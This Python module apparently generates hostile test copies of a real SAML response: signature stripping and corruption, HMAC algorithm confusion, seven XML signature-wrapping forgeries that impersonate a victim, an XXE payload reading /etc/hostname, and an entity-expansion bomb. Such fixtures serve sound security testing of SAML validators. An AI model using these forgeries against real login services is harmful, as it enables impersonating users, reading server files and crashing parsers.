"""Hostile copies of a genuine SAML response; whoever takes one of them lets a stranger in."""

import base64
import copy
from collections.abc import Callable, Iterator
from typing import Any

from lxml import etree

VICTIM = "id-of-the-victim"
_NS = {
    "p": "urn:oasis:names:tc:SAML:2.0:protocol",
    "a": "urn:oasis:names:tc:SAML:2.0:assertion",
    "d": "http://www.w3.org/2000/09/xmldsig#",
}
_SIGNATURE = "{http://www.w3.org/2000/09/xmldsig#}Signature"
Change = Callable[[Any, Any], Any]


def copies(response: str) -> Iterator[tuple[str, str]]:
    """Gives name and base64 of each copy of a response in base64."""
    raw = base64.b64decode(response)
    for change in (*_CHANGED, *_WRAPPED):
        root = etree.fromstring(raw)
        changed = change(root, root.find("a:Assertion", _NS))
        yield change.__name__.strip("_"), _packed(etree.tostring(changed if changed is not None else root))
    yield from ((name, _packed(text)) for name, text in _texts(raw.decode()))
    yield from (("not_base64", "%%%"), ("empty", ""), ("huge", _packed(b"<a>" * 100_000)))


def _packed(text: bytes) -> str:
    return base64.b64encode(text).decode()


def _name(assertion: Any) -> Any:
    return assertion.find("a:Subject/a:NameID", _NS)


def _unsign(root: Any) -> None:
    for signature in root.findall("d:Signature", _NS):
        root.remove(signature)


def _forged(assertion: Any, id: str = "_forged") -> Any:
    forged = copy.deepcopy(assertion)
    forged.set("ID", id)
    _unsign(forged)
    _name(forged).text = VICTIM
    return forged


def _name_changed(_root: Any, assertion: Any) -> None:
    _name(assertion).text = VICTIM


def _attribute_changed(_root: Any, assertion: Any) -> None:
    assertion.find(".//a:AttributeValue", _NS).text = VICTIM


def _no_signature(root: Any, assertion: Any) -> None:
    _unsign(root)
    _unsign(assertion)


def _no_signature_and_name_changed(root: Any, assertion: Any) -> None:
    _no_signature(root, assertion)
    _name(assertion).text = VICTIM


def _only_response_signed(_root: Any, assertion: Any) -> None:
    _unsign(assertion)


def _signature_garbage(root: Any, _assertion: Any) -> None:
    for value in root.findall(".//d:SignatureValue", _NS):
        value.text = base64.b64encode(bytes(256)).decode()


def _signature_empty(root: Any, _assertion: Any) -> None:
    for value in root.findall(".//d:SignatureValue", _NS):
        value.text = ""


def _signature_hmac(root: Any, _assertion: Any) -> None:
    for method in root.findall(".//d:SignatureMethod", _NS):
        method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")


def _key_in_the_signature(root: Any, _assertion: Any) -> None:
    for certificate in root.findall(".//d:X509Certificate", _NS):
        certificate.text = "MIIB"


def _conditions_changed(_root: Any, assertion: Any) -> None:
    assertion.find("a:Conditions", _NS).set("NotOnOrAfter", "2999-01-01T00:00:00Z")


def _audience_changed(_root: Any, assertion: Any) -> None:
    assertion.find(".//a:Audience", _NS).text = "http://other.example"


def _answers_another_request(root: Any, _assertion: Any) -> None:
    root.set("InResponseTo", "_another")


def _no_assertion(root: Any, assertion: Any) -> None:
    root.remove(assertion)


def _wrapped_before(root: Any, assertion: Any) -> None:
    _unsign(root)
    root.insert(root.index(assertion), _forged(assertion))


def _wrapped_after(root: Any, assertion: Any) -> None:
    _unsign(root)
    root.append(_forged(assertion))


def _wrapped_inside(root: Any, assertion: Any) -> None:
    _unsign(root)
    forged = _forged(assertion)
    root.replace(assertion, forged)
    forged.append(assertion)


def _wrapped_in_extensions(root: Any, assertion: Any) -> None:
    _unsign(root)
    root.replace(assertion, _forged(assertion))
    etree.SubElement(root, f"{{{_NS['p']}}}Extensions").append(assertion)


def _wrapped_in_object(root: Any, assertion: Any) -> None:
    _unsign(root)
    forged = _forged(assertion)
    signature = copy.deepcopy(assertion.find("d:Signature", _NS))
    root.replace(assertion, forged)
    forged.insert(1, signature)
    _unsign(assertion)
    etree.SubElement(signature, f"{{{_NS['d']}}}Object").append(assertion)


def _wrapped_same_id(root: Any, assertion: Any) -> None:
    _unsign(root)
    root.insert(root.index(assertion), _forged(assertion, assertion.get("ID")))


def _wrapped_response(root: Any, _assertion: Any) -> Any:
    outer = copy.deepcopy(root)
    outer.set("ID", "_outer")
    _unsign(outer)
    inner = outer.find("a:Assertion", _NS)
    outer.replace(inner, _forged(inner))
    etree.SubElement(outer, f"{{{_NS['p']}}}Extensions").append(root)
    return outer


_CHANGED: tuple[Change, ...] = (
    *(_name_changed, _attribute_changed, _no_signature, _no_signature_and_name_changed, _only_response_signed),
    *(_signature_garbage, _signature_empty, _signature_hmac, _key_in_the_signature, _conditions_changed),
    *(_audience_changed, _answers_another_request, _no_assertion),
)
_WRAPPED: tuple[Change, ...] = (
    *(_wrapped_before, _wrapped_after, _wrapped_inside, _wrapped_in_extensions, _wrapped_in_object),
    *(_wrapped_same_id, _wrapped_response),
)


def _texts(text: str) -> Iterator[tuple[str, bytes]]:
    name = etree.fromstring(text.encode()).find(".//a:NameID", _NS).text
    body = text[text.index("<samlp:Response") :]
    entity = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    yield "outside_entity", (entity + body.replace(name, "&x;", 1)).encode()
    bomb = "".join(f'<!ENTITY l{n} "{(f"&l{n - 1};") * 10 if n else "lol"}">' for n in range(10))
    yield "entity_bomb", f"<!DOCTYPE r [{bomb}]>{body.replace(name, '&l9;', 1)}".encode()
    yield "not_xml", b"\xff\xfe<<<"
    yield "other_xml", b"<html><body>no</body></html>"
